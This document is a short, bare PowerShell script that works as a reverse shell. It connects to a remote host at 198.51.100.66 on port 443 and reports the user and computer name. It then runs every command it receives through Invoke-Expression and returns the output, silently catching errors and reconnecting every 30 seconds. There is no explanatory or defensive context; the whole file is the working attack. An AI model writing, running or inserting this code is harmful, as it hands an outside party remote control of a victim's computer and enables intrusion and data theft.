$h = "198.51.100.66"
$p = 443
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TCPClient($h, $p)
    $s = $c.GetStream()
    $w = New-Object System.IO.StreamWriter($s)
    $w.AutoFlush = $true
    $w.Write("PS " + $env:USERNAME + "@" + $env:COMPUTERNAME + " > ")
    [byte[]]$b = 0..65535 | ForEach-Object { 0 }
    while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
      $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
      $o = (Invoke-Expression $d 2>&1 | Out-String)
      $w.Write($o + "PS " + (Get-Location).Path + "> ")
    }
    $c.Close()
  } catch { }
  Start-Sleep -Seconds 30
}
